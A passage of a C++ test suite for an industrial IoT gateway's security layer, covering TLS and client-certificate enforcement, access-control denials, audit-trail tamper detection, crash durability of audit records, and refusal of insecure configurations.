    {"chains", {{"default", {"acl"}}}},
  };
  const std::string target = "/things/plc-1/properties/temperature";
  const std::string cert = data_dir + "/tls/cert.pem";
  auto served_fingerprint = [&] {
    return fingerprint_line(
      run("openssl s_client -connect 127.0.0.1:" + std::to_string(port)
          + " -servername localhost 2>/dev/null | openssl x509 -noout -fingerprint -sha256")
        .output);
  };
  auto curl = [&](const std::string& args) {
    return run("curl -sS --max-time 10 --cacert " + cert + " " + args
               + " -w '\\nstatus=%{http_code}\\n' " + url + target);
  };

  start(site(sec));
  ASSERT_EQ(url.rfind("https://", 0), 0u) << url;
  ASSERT_TRUE(fs::exists(cert));
  auto stored
    = fingerprint_line(run("openssl x509 -noout -fingerprint -sha256 -in " + cert).output);
  ASSERT_FALSE(stored.empty());
  EXPECT_EQ(served_fingerprint(), stored);
  auto ok = curl("-H 'X-API-Key: key-dashboard'");
  EXPECT_TRUE(has(ok.output, "status=200")) << ok.output;
  // Plain HTTP on the HTTPS port gets no answer.
  EXPECT_NE(call(port, "GET", target, as_app("dashboard"), {}, 2s).status, 200u);
  auto old = run("openssl s_client -connect 127.0.0.1:" + std::to_string(port)
                 + " -tls1_1 -cipher DEFAULT@SECLEVEL=0");
  EXPECT_NE(old.exit_code, 0) << old.output;
  EXPECT_TRUE(has(old.output, "alert protocol version")) << old.output;
  stop();

  // A restart on the same data dir serves the same certificate.
  start(site(sec));
  EXPECT_EQ(served_fingerprint(), stored);
  stop();

  // Client certificates from the apps' CA, required; CN line-3-hmi is app hmi.
  pki certs{dir / "pki"};
  ASSERT_TRUE(certs.error.empty()) << certs.error;
  json mtls = sec;
  mtls["tls"] = {{"clientCa", certs.path("ca.pem")},
                 {"requireClientCert", true},
                 {"clientApps", {{"line-3-hmi", "hmi"}}}};
  start(site(mtls));
  auto no_cert = curl("");
  EXPECT_FALSE(has(no_cert.output, "status=200")) << no_cert.output;
  EXPECT_NE(no_cert.exit_code, 0) << no_cert.output;
  auto other_ca = curl("--cert " + certs.path("intruder.pem") + " --key "
                       + certs.path("intruder.key"));
  EXPECT_FALSE(has(other_ca.output, "status=200")) << other_ca.output;
  EXPECT_NE(other_ca.exit_code, 0) << other_ca.output;
  auto hmi = curl("--cert " + certs.path("client.pem") + " --key " + certs.path("client.key"));
  EXPECT_TRUE(has(hmi.output, "status=200")) << hmi.output;
  // The certificate authenticates app hmi only: hmi may not write.
  auto hmi_write = run("curl -sS --max-time 10 --cacert " + cert + " --cert "
                       + certs.path("client.pem") + " --key " + certs.path("client.key")
                       + " -X PUT -H 'Content-Type: application/json' -d 50"
                       + " -w '\\nstatus=%{http_code}\\n' " + url
                       + "/things/plc-1/properties/setpoint");
  EXPECT_TRUE(has(hmi_write.output, "status=403")) << hmi_write.output;
  stop();

  // Plain HTTP needs allowPlainHttp.
  json plain = sec;
  plain["tls"] = {{"enabled", false}};
  auto refused = run_refused(site(plain));
  EXPECT_EQ(refused.exit_code, 2) << refused.output;
  EXPECT_TRUE(has(refused.output, "/security/tls")) << refused.output;
  plain["tls"]["allowPlainHttp"] = true;
  start(site(plain));
  EXPECT_EQ(url.rfind("http://", 0), 0u) << url;
  EXPECT_EQ(get(target, as_app("dashboard")).status, 200u);
}

// --- 6. audit tamper evidence ---------------------------------------------------

TEST_F(security_test, audit_trail_verifies_and_a_flipped_byte_is_found) {
  json sec = {
    {"authentication", {{"credentials", {{"apiKeys", {api_key_entry("ok", {"reader"}),
                                                       api_key_entry("no", {"nobody"})}}}}}},
    {"checks", {{"acl", {{"type", "acl"}, {"rules", {allow_rule("role:reader")}}}}}},
    {"chains", {{"default", {"acl"}}}},
    {"tls", plain_http()},
  };
  start(site(sec));
  const std::string target = "/things/plc-1/properties/temperature";
  for (int i = 0; i < 4; ++i) {
    EXPECT_EQ(get(target, as_app("ok")).status, 200u);
    EXPECT_EQ(get(target, as_app("no")).status, 403u);
  }
  EXPECT_EQ(get(target).status, 401u);
  stop();

  auto intact = run(audit_bin + " verify --data-dir " + data_dir);
  EXPECT_EQ(intact.exit_code, 0) << intact.output;
  auto report = json::parse(intact.output, nullptr, false);
  EXPECT_EQ(report.value("ok", false), true) << intact.output;
  EXPECT_GE(report.value("records", 0), 9) << intact.output;

  // Flip one byte of record 3's subject, in place.
  const uint64_t victim = 3;
  {
    auto store = storage::rocksdb_store::open(data_dir);
    ASSERT_TRUE(store) << "cannot open the store";
    std::string key, value;
    uint64_t seen = 0;
    auto err = (*store)->for_each_prefix("audit", "", [&](std::string_view k, std::string_view v) {
      if (++seen == victim) {
        key = std::string{k};
        value = std::string{v};
        return false;
      }
      return true;
    });
    ASSERT_FALSE(err);
    ASSERT_FALSE(key.empty());
    auto at = value.find("app:");
    ASSERT_NE(at, std::string::npos) << value;
    value[at + 4] ^= 0x01; // "app:ok" -> "app:nk", "app:no" -> "app:oo"
    ASSERT_FALSE((*store)->put("audit", key, value, {}));
  }
  auto tampered = run(audit_bin + " verify --data-dir " + data_dir);
  EXPECT_EQ(tampered.exit_code, 1) << tampered.output;
  auto bad = json::parse(tampered.output, nullptr, false);
  EXPECT_EQ(bad.value("ok", true), false) << tampered.output;
  EXPECT_EQ(bad.value("first_bad_sequence", uint64_t{0}), victim) << tampered.output;
}

// --- 7. kill -9 during a burst ------------------------------------------------

TEST_F(security_test, every_acknowledged_write_and_denial_survives_kill_9) {
  json sec = {
    {"authentication", {{"credentials", {{"apiKeys", {api_key_entry("writer", {"writer"}),
                                                       api_key_entry("intruder", {"reader"})}}}}}},
    {"checks", {{"acl", {{"type", "acl"},
                         {"rules", {allow_rule("role:writer"),
                                    allow_rule("role:reader", "readproperty")}}}}}},
    {"chains", {{"default", {"acl"}}}},
    {"tls", plain_http()},
  };
  start(site(sec));
  const std::string setpoint = "/things/plc-1/properties/setpoint";

  struct ack {
    uint16_t local_port;
    std::string op;
    unsigned status;
  };
  std::mutex mtx;
  std::vector<ack> acks;
  std::atomic<bool> done{false};
  std::atomic<size_t> acked{0};
  std::vector<std::thread> clients;
  for (int c = 0; c < 6; ++c)
    clients.emplace_back([&, c] {
      for (int i = 0; !done.load(); ++i) {
        // Distinct values per write: 0.1 degC steps within the setpoint range.
        auto value = std::to_string((c * 1000 + i) % 1200 / 10.0);
        reply r;
        std::string op;
        switch (i % 3) {
          case 0:
            op = "writeproperty";
            r = call(port, "PUT", setpoint, as_app("writer"), value, 3s);
            break;
          case 1:
            op = "writeproperty";
            r = call(port, "PUT", setpoint, as_app("intruder"), value, 3s);
            break;
          default:
            op = "readproperty";
            r = call(port, "GET", setpoint, as_app("writer"), {}, 3s);
        }
        if (r.status == 0)
          continue; // no acknowledgement
        std::lock_guard<std::mutex> guard{mtx};
        acks.push_back({r.local_port, op, r.status});
        ++acked;
      }
    });
  auto deadline = std::chrono::steady_clock::now() + 5s;
  while (acked.load() < 90 && std::chrono::steady_clock::now() < deadline)
    std::this_thread::sleep_for(5ms);
  gateway.kill_hard();
  std::this_thread::sleep_for(200ms);
  done = true;
  for (auto& t : clients)
    t.join();
  ASSERT_GE(acks.size(), 30u) << "too few acknowledged requests before the kill";

  auto verify = run(audit_bin + " verify --data-dir " + data_dir);
  EXPECT_EQ(verify.exit_code, 0) << verify.output;
  auto trail = audit_query_all();
  std::multimap<std::string, json> by_source;
  for (auto& rec : trail)
    by_source.emplace(rec.value("source", ""), rec);
  size_t writes = 0, denials = 0, reads = 0, reads_missing = 0;
  for (auto& a : acks) {
    auto source = "127.0.0.1:" + std::to_string(a.local_port);
    auto [lo, hi] = by_source.equal_range(source);
    bool found = std::any_of(lo, hi, [&](auto& kv) {
      return kv.second.value("op", "") == a.op
             && kv.second.value("http_status", 0u) == a.status
             && kv.second.value("thing", "") == "plc-1";
    });
    if (a.op == "readproperty") {
      ++reads;
      reads_missing += found ? 0 : 1;
      continue;
    }
    (a.status == 403 ? denials : writes) += 1;
    EXPECT_TRUE(found) << "acknowledged " << a.op << " " << a.status << " from " << source
                       << " is not in the audit trail";
  }
  EXPECT_GT(writes, 0u);
  EXPECT_GT(denials, 0u);
  // access_stage.hpp: acknowledged reads may be lost up to the writer's
  // queue_capacity + max_batch (8192 + 256).
  EXPECT_LE(reads_missing, 8192u + 256u) << reads << " reads";
}

// --- 8. bad config ----------------------------------------------------------------

TEST_F(security_test, configs_without_security_or_without_acl_are_refused) {
  auto no_security = run_refused(site(json{}));
  EXPECT_EQ(no_security.exit_code, 2) << no_security.output;
  EXPECT_TRUE(has(no_security.output, "/security")) << no_security.output;

  json sec = {
    {"authentication", {{"credentials", {{"apiKeys", {api_key_entry("a", {"r"})}}}}}},
    {"checks", {{"acl", {{"type", "acl"}, {"rules", {allow_rule("role:r")}}}},
                {"sigs", {{"type", "signatures"},
                          {"rulesFile", source_dir + "/config/security/signatures.json"}}}}},
    {"chains", {{"default", {"sigs"}}}},
    {"tls", plain_http()},
  };
  auto no_acl = run_refused(site(sec));
  EXPECT_EQ(no_acl.exit_code, 2) << no_acl.output;
  EXPECT_TRUE(has(no_acl.output, "/security/chains/default")) << no_acl.output;

  sec["chains"] = {{"default", {"acl", "sigs"}},
                   {"rules", {{{"thing", "tag:line-2"}, {"chain", {"sigs"}}}}}};
  auto rule_without_acl = run_refused(site(sec));
  EXPECT_EQ(rule_without_acl.exit_code, 2) << rule_without_acl.output;
  EXPECT_TRUE(has(rule_without_acl.output, "/security/chains/rules/0/chain"))
    << rule_without_acl.output;
  EXPECT_FALSE(fs::exists(data_dir)) << "a refused config must not touch storage";
}

} // namespace
} // namespace kagami::test
